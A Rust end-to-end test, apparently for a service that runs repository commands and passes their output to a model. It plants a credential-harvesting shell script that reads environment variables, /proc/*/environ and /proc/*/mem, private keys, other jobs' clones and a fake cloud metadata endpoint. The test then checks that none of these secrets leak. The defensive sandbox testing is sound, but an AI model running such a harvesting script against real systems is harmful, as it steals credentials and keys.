//! A repository's command that tries to steal the server's secrets, end to end: `ota
//! serve` started with its secrets in its environment and files, a job whose configured
//! command is a script from the repository that looks for them everywhere it can think
//! of and prints what it finds. The command's output goes to the model, so whatever it
//! found would leave through the fake Ollama, the database, the logs or GitHub. Nothing
//! may, and the job must still run its tests and open its pull request.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;

use e2e::fake_github::PRIVATE_KEY_PEM;
use e2e::ota_server::{OtaServer, REPO, ServeWorld, refactor_request};
use e2e::runner_world::{LIB, config_with_command};

const OTA: &str = env!("CARGO_BIN_EXE_ota");

const OLLAMA_KEY: &str = "sk-escape-ollama-key-5b1e";
const APP_JSON_MARKER: &str = "APPJSON-MARKER-93d0";
const DATA_MARKER: &str = "DATADIR-MARKER-1c44";
const CLONE_MARKER: &str = "OTHER-CLONE-MARKER-7a2f";
const METADATA_MARKER: &str = "METADATA-CREDENTIAL-4e8b";

/// The attacker's script: every way to the secrets it knows, printing what it finds,
/// then the repository's real check.
fn escape_script(data_dir: &Path, key: &Path, clones: &Path, metadata: &str) -> String {
    format!(
        r#"echo ESCAPE-SCRIPT-RAN
echo "== own environment"; env | grep -a -E 'SECRET|KEY|TOKEN|PEM'
echo "== /proc/*/environ"
for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null; done | grep -a -E 'SECRET|KEY|TOKEN' | sort -u
echo "== /proc/*/mem"
/usr/bin/python3 - <<'PY' 2>/dev/null
import os
for pid in os.listdir('/proc'):
    if not pid.isdigit():
        continue
    try:
        if b'ota' not in open('/proc/%s/cmdline' % pid, 'rb').read():
            continue
        maps = open('/proc/%s/maps' % pid).read().splitlines()
        mem = open('/proc/%s/mem' % pid, 'rb', 0)
    except Exception:
        continue
    for line in maps:
        parts = line.split()
        start, end = [int(x, 16) for x in parts[0].split('-')]
        if not parts[1].startswith('rw') or end - start > 64 << 20:
            continue
        try:
            mem.seek(start)
            data = mem.read(end - start)
        except Exception:
            continue
        for pattern in (b'PRIVATE KEY' + b'-----', b'WEBHOOK_SECRET=', b'OLLAMA_API_KEY='):
            at = data.find(pattern)
            if at >= 0:
                print(pid, data[max(0, at - 300):at + 300])
PY
echo "== data directory"; ls -la {data}; cat {data}/app.json {data}/notes.txt
echo "== private key"; cat {key}
echo "== other clones"; ls {clones}; cat {clones}/ota-clone-*/secret.txt
echo "== metadata"; curl -s --max-time 3 {metadata} || wget -q -O - -T 3 {metadata}
echo "== the tests"
grep -q retry_with_backoff src/lib.rs
"#,
        data = data_dir.display(),
        key = key.display(),
        clones = clones.display(),
    )
}

/// A fake credential endpoint on the host's loopback, like a cloud's metadata service.
fn metadata_endpoint() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("metadata listener");
    let port = listener.local_addr().expect("address").port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.read(&mut [0u8; 1024]);
            let body = format!("{{\"AccessKeyId\":\"{METADATA_MARKER}\"}}");
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    format!("http://127.0.0.1:{port}/latest/meta-data/iam/security-credentials/runner")
}

/// Everything under `dir` as text, but the files the test planted there itself.
fn everything_in(dir: &Path, planted: &[&Path]) -> String {
    let mut text = String::new();
    for entry in std::fs::read_dir(dir).expect("data directory").flatten() {
        let path = entry.path();
        if planted.contains(&path.as_path()) {
            continue;
        }
        if path.is_dir() {
            text.push_str(&everything_in(&path, planted));
        } else if let Ok(bytes) = std::fs::read(&path) {
            text.push_str(&String::from_utf8_lossy(&bytes));
        }
    }
    text
}

#[tokio::test]
async fn a_command_from_the_repository_finds_none_of_the_servers_secrets() {
    let data_dir = tempfile::tempdir().expect("data directory");
    let secrets = tempfile::tempdir().expect("key directory");
    let key = secrets.path().join("app.private-key.pem");
    std::fs::write(&key, PRIVATE_KEY_PEM).expect("key file");
    let clones = tempfile::tempdir().expect("clones directory");
    let other_clone = clones.path().join("ota-clone-other-job");
    std::fs::create_dir(&other_clone).expect("another job's clone");
    std::fs::write(other_clone.join("secret.txt"), CLONE_MARKER).expect("marker");
    let app_json = data_dir.path().join("app.json");
    std::fs::write(&app_json, format!("{{\"note\":\"{APP_JSON_MARKER}\"}}")).expect("app.json");
    let notes = data_dir.path().join("notes.txt");
    std::fs::write(&notes, DATA_MARKER).expect("marker");
    let metadata = metadata_endpoint();

    let script = escape_script(data_dir.path(), &key, clones.path(), &metadata);
    let mut world = ServeWorld::new(
        &[("src/lib.rs", LIB), ("escape.sh", &script)],
        &config_with_command("sh escape.sh"),
    )
    .await;
    world.data_dir = data_dir;
    world.script_checked_refactor();
    let mut environment: Vec<(String, String)> = world
        .environment()
        .into_iter()
        .filter(|(name, _)| name != "PRIVATE_KEY")
        .collect();
    environment.extend([
        ("PRIVATE_KEY_PATH".to_owned(), key.display().to_string()),
        ("OLLAMA_API_KEY".to_owned(), OLLAMA_KEY.to_owned()),
        ("TMPDIR".to_owned(), clones.path().display().to_string()),
    ]);
    let server = OtaServer::start_with(
        OTA,
        world.data_dir(),
        &environment,
        &["--retry-interval-seconds", "1"],
    );

    let (status, body) = server.post(&refactor_request("Codertocat")).await;
    assert_eq!(status, 202, "{body}");
    let pull = world.opened_pull(&server).await;
    assert!(pull.head.starts_with("ollama/refactor-"), "{}", pull.head);
    let finished = world.completed_check_run(&server, "success").await;
    assert_eq!(finished.fields["conclusion"], "success");

    let calls = world.ollama.calls();
    let results: Vec<String> = calls.iter().flat_map(|call| call.tool_results()).collect();
    let command = results
        .iter()
        .find(|result| result.contains("ESCAPE-SCRIPT-RAN"))
        .unwrap_or_else(|| panic!("the script ran and the model saw it: {results:#?}"));
    assert!(
        command.starts_with("`sh escape.sh` succeeded"),
        "the tests still pass in the sandbox: {command}"
    );

    let to_ollama: String = calls.iter().map(|call| call.body.to_string()).collect();
    let stored = everything_in(world.data_dir(), &[&app_json, &notes]);
    let to_github: String = world
        .github
        .requests()
        .iter()
        .map(|request| format!("{} {:?}", request.path, request.body))
        .collect();
    let logs = server.log();
    let pem_line = PRIVATE_KEY_PEM
        .lines()
        .nth(5)
        .expect("a line of the key's body");
    let secrets = [
        ("the webhook secret", e2e::ota_server::SECRET),
        ("the Ollama API key", OLLAMA_KEY),
        ("the App's private key", pem_line),
        ("the private key's header", "PRIVATE KEY-----"),
        ("app.json in the data directory", APP_JSON_MARKER),
        ("a file in the data directory", DATA_MARKER),
        ("another job's clone", CLONE_MARKER),
        ("the metadata endpoint's credential", METADATA_MARKER),
    ];
    for (what, secret) in secrets {
        for (place, text) in [
            ("what the model was sent", &to_ollama),
            ("the data directory (database, logs)", &stored),
            ("the server's log", &logs),
            ("what GitHub was sent", &to_github),
        ] {
            assert!(
                !text.contains(secret),
                "{what} reached {place}; the command printed:\n{command}"
            );
        }
    }
    assert_eq!(world.github.opened_pulls(REPO).len(), 1);
}
